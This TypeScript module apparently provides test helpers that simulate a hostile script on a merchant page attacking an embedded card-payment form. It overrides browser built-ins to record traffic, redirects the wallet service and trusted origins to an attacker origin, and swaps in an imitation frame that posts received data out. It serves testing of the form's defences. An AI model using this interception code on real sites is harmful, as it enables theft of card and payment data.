/*
 * What a hostile script of the brand's own page does to get a card. Each function runs in that page, so it can't use
 * anything outside of itself.
 */

export const natives = ["postMessage", "MessageChannel", "fetch", "JSON", "Promise", "crypto"] as const;
export type Native = (typeof natives)[number];
export interface Attack {
  natives: readonly Native[];
  /** Origin of the attacker's server. */
  evil: string;
}

/**
 * Replaces the page's built-ins by ones that record what passes through them, and that replace the wallet service's
 * addresses by the attacker's wherever they find them.
 */
export function replaceNatives({ natives: replaced, evil }: Attack): void {
  if (self !== top) return; // only a script of the page, not of its frames
  const page = window as unknown as Record<string, unknown> & { seenByPage?: string[] };
  const seen = (page.seenByPage ??= []);
  const { stringify } = JSON;
  const { fetch, Promise: OwnPromise, JSON: ownJson } = window;
  const real = location.origin;
  const note = <Value>(value: Value): Value => {
    try {
      seen.push(typeof value === "string" ? value : (stringify(value) ?? ""));
    } catch {
      // Not plain data.
    }
    return value;
  };

  /** In place: the wallet service of a configuration, and its trusted origins. */
  function rewrite<Value>(value: Value, depth = 0): Value {
    if (typeof value !== "object" || value === null || depth > 6) return value;
    const found = value as Record<string, unknown>;
    try {
      if (found["msName"] === "wallet") found["msBaseUrl"] = `${evil}/api/wallet`;
      if (Array.isArray(found["api"])) found["api"] = [];
      for (const one of Object.values(found)) rewrite(one, depth + 1);
    } catch {
      // Frozen, or not plain data.
    }
    return value;
  }
  /** The same in a request to the card form, and in everything else that it might read. */
  function rewriteMessage(message: unknown): unknown {
    const { order } = Object(message) as { order?: Record<string, unknown> };
    if (!order) return message;
    rewrite(order);
    if ("options" in order) order["options"] = { configUrl: `${evil}/config`, origins: [evil] };
    for (const name of Object.keys(order)) {
      if (/url|address$|origin/i.test(name)) order[name] = `${evil}/api/wallet`;
    }
    return message;
  }

  // What the page says it trusts.
  let api = (window as unknown as { TvSelfcare?: { config?: { origins?: string[] } } }).TvSelfcare;
  Object.defineProperty(window, "TvSelfcare", {
    configurable: true,
    get: () => api,
    set(given: typeof api) {
      api = given;
      if (given?.config) given.config.origins = [...(given.config.origins ?? []), evil];
    },
  });

  const replacements: Record<Native, () => void> = {
    postMessage() {
      const { postMessage } = MessagePort.prototype;
      MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
        return Reflect.apply(postMessage, this, [note(rewriteMessage(message)), ...more]);
      };
      const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage") ?? {};
      Object.defineProperty(MessagePort.prototype, "onmessage", {
        configurable: true,
        set(listener: (event: MessageEvent) => void) {
          set?.call(this, (event: MessageEvent) => {
            note(event.data);
            listener(event);
          });
        },
      });
    },
    MessageChannel() {
      const Own = window.MessageChannel;
      page["MessageChannel"] = function Channel() {
        const { port1, port2 } = new Own();
        const theirs = new Own();
        const outer = theirs.port1;
        theirs.port2.onmessage = ({ data }) => port1.postMessage(note(rewriteMessage(data)));
        port1.onmessage = ({ data }) => theirs.port2.postMessage(note(data));
        return { port1: outer, port2 };
      };
    },
    fetch() {
      // The page's own calls go where they should, so that the change is not noticed.
      window.fetch = new Proxy(fetch, {
        async apply(target, self, [input, options]: [RequestInfo | URL, RequestInit?]) {
          const url = String(input instanceof Request ? input.url : input);
          note([url, options?.body]);
          const answer = (await Reflect.apply(target, self, [url.replace(evil, real), options])) as Response;
          if (!/\/config\b/.test(url)) return answer;
          const text = stringify(rewrite(await answer.json()));
          return new Response(text, { status: answer.status, headers: answer.headers });
        },
      });
    },
    JSON() {
      page["JSON"] = {
        parse: (text: string) => rewrite(ownJson.parse(text) as unknown),
        stringify: (...all: Parameters<typeof stringify>) => note(stringify(...all)),
      };
      replacements.fetch();
    },
    Promise() {
      page["Promise"] = class extends OwnPromise<unknown> {
        constructor(run: ConstructorParameters<typeof OwnPromise<unknown>>[0]) {
          super((resolve, reject) => run((value) => resolve(note(rewrite(value))), reject));
        }
      };
      replacements.fetch();
    },
    crypto() {
      for (const name of ["encrypt", "importKey", "digest", "wrapKey"] as const) {
        const own = SubtleCrypto.prototype[name];
        Object.defineProperty(SubtleCrypto.prototype, name, {
          value(...all: unknown[]) {
            for (const one of all) {
              note(ArrayBuffer.isView(one) ? new TextDecoder().decode(one as Uint8Array) : one);
            }
            return Reflect.apply(own, this, all) as unknown;
          },
        });
      }
    },
  };
  for (const name of replaced) replacements[name]();
}

/** Makes the page send each message to the card form three times, and the order once more after each answer. */
export function repeatMessages(): void {
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
    for (let n = 0; n < 3; n++) Reflect.apply(postMessage, this, [message, ...more]);
    const { type } = Object(message) as { type?: string };
    if (type !== "send") return;
    this.addEventListener("message", ({ data }: MessageEvent<{ type?: string }>) => {
      if (data.type === "saved") Reflect.apply(postMessage, this, [message, ...more]);
    });
  };
}

/**
 * Takes the page's end of the channel to the card form. `askCardForm` makes it focus each of its fields, or the named one,
 * and validate them, and resolves to all received messages.
 */
export function listen(): void {
  const { postMessage } = MessagePort.prototype;
  const received: unknown[] = [];
  let tell = (_message: unknown) => {};
  let answered = () => {};
  MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
    const { type } = Object(message) as { type?: string };
    if (type === "draw") {
      tell = (reported) => void Reflect.apply(postMessage, this, [reported]);
      this.addEventListener("message", ({ data }: MessageEvent<{ id?: string }>) => {
        received.push(data);
        if (data.id === "theirs") answered();
      });
    }
    return Reflect.apply(postMessage, this, [message, ...more]) as void;
  };
  Object.assign(window, {
    askCardForm: async (...fields: unknown[]) => {
      for (const field of fields.length ? fields : ["code", "expiration", "number"])
        tell({ type: "focus", field });
      await new Promise<void>((resolve) => {
        answered = resolve;
        tell({ type: "check", id: "theirs" });
      });
      return received;
    },
  });
}

/** Makes the page send an order, and an unrequested token, before the form is drawn. */
export function reorderMessages(): void {
  const { postMessage } = MessagePort.prototype;
  let isFirst = true;
  MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
    const { type } = Object(message) as { type?: string };
    if (type === "draw" && isFirst) {
      isFirst = false;
      const address = { line1: "1 Elm", line2: "", city: "Boise", state: "ID", zip: "83702", country: "US" };
      const person = { personId: "p-1002", customerRelationshipId: "cr-2002" };
      const card = { ...person, firstName: "Nico", lastName: "Newman", token: "", address };
      const made = { accessToken: "made-up", idempotencyKey: "made-up", language: "en", deadlineMs: 9_000 };
      const order = { id: "made-up", headers: {}, ...made, card };
      Reflect.apply(postMessage, this, [{ type: "send", order }]);
      Reflect.apply(postMessage, this, [{ type: "token", id: "made-up", accessToken: "made-up" }]);
    }
    return Reflect.apply(postMessage, this, [message, ...more]) as void;
  };
}

const frameOf = `(function find(root) {
  for (const node of root.querySelectorAll("*")) {
    if (node.localName === "iframe" && node.src.includes("card-frame")) return node;
    const found = node.shadowRoot && find(node.shadowRoot);
    if (found) return found;
  }
})(document)`;

/** Navigates the card form's frame to an imitation. */
export const leadAway = (how: "src" | "location", to: string): string =>
  how === "src"
    ? `${frameOf}.src = ${JSON.stringify(to)}`
    : `${frameOf}.contentWindow.location = ${JSON.stringify(to)}`;

/** Imitates the card form's document, and sends the attacker what it receives. */
export const imitation = `<!doctype html><title>Imitation</title><script>
  addEventListener("message", ({ ports: [port] }) => {
    if (!port) return;
    port.onmessage = ({ data }) => {
      fetch(${JSON.stringify("/heard")}, { method: "POST", body: JSON.stringify(data) });
      if (data.type === "draw") port.postMessage({ type: "drawn", canSeal: true });
      if (data.type !== "check") return;
      const typed = { cardType: "VISA", last4: "4242", expirationDate: "1231", isNewNumber: true, isNewExpiration: true };
      port.postMessage({ type: "checked", id: data.id, typed, checked: typed });
    };
    port.postMessage({ type: "renew", id: "x", refused: "x" });
  });
</script>`;

/** A page that frames the card form's document itself. */
export const foreignParent = (frame: string): string => `<!doctype html><title>Foreign</title>
<iframe sandbox="allow-scripts" src="${frame}" width="400" height="300"></iframe><script>
  onload = () => {
    const { port1, port2 } = new MessageChannel();
    document.querySelector("iframe").contentWindow.postMessage("tv-card-frame", "*", [port2]);
    const names = ["numberLabel", "numberRequired", "numberInvalid", "numberType", "numberLength", "expirationLabel",
      "expirationRequired", "expirationInvalid", "expirationPast", "codeLabel", "codeHint", "codeHintAmex", "codeRequired",
      "codeLength"];
    const words = Object.fromEntries(names.map((name) => [name, name]));
    port1.onmessage = ({ data }) => {
      if (data.type === "unusable") document.title = "Refused: " + data.problem;
    };
    port1.postMessage({ type: "draw", appearance: { lang: "en", dir: "ltr", style: {}, words } });
  };
</script>`;
